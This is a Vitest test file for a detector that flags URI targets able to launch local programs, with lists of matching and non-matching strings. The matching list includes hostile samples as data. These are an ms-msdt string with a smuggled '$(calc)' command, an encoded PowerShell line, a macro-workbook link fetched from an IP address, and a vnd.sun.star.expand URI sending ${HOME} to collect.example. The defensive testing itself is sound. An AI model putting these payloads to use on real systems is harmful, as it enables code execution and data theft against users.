// Which URI targets name a program on the reader's machine.
import { describe, expect, it } from "vitest";
import { localProgramOf } from "./uri-runs-local-program";

describe("a URI that runs a local program", () => {
  it.each([
    "file:///C:/Windows/System32/calc.exe",
    "file://localhost/C:/Users/Public/run.bat",
    "FILE:/C:/tools/setup.msi",
    "C:\\Users\\Public\\invoice.hta",
    "/C/Windows/System32/cmd.exe",
    "START C:/\\Windows/\\system32/\\calc.exe",
    "cmd /c calc",
    "powershell -nop -enc SQBFAFgA",
    'ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../$(calc)"',
    "MS-MSDT:-id PCWDiagnostic",
    "ms-appinstaller:?source=https://updates.example/app.appinstaller",
    "ms-officecmd:%7B%22id%22:3%7D",
    "hcp://services/search?query=x",
    "mk:@MSITStore:C:\\Windows\\Help\\x.chm::/a.htm",
    "ms-word:ofe|u|https://docs.example/invoice.docx",
    "ms-excel:ofv|u|http://198.51.100.7/q.xlsm",
    "vnd.sun.star.script:Standard.Module1.Run?language=Basic&location=document",
    "vnd.sun.star.expand:https://collect.example/l?v=${HOME}",
  ])("%s", (target) => {
    expect(localProgramOf(target)).toBe(target.trim());
  });

  it.each([
    "https://example.com/download/setup.exe",
    "file:///C:/Users/Public/Documents/report.pdf",
    "file://fileserver/share/tool.exe",
    "\\\\fileserver\\share\\tool.exe",
    "mailto:billing@example.com",
    "calc.exe",
    "Start here",
    "start the tour",
    "start C:/Users/Public/Documents/report.pdf",
    "C:\\Program Files\\App\\manual.html",
    "ms-settings:privacy-location",
    "ms-word:",
    "msdt is the Support Diagnostic Tool",
    "vnd.sun.star is the office suite's old name",
  ])("not %s", (target) => {
    expect(localProgramOf(target)).toBeNull();
  });
});
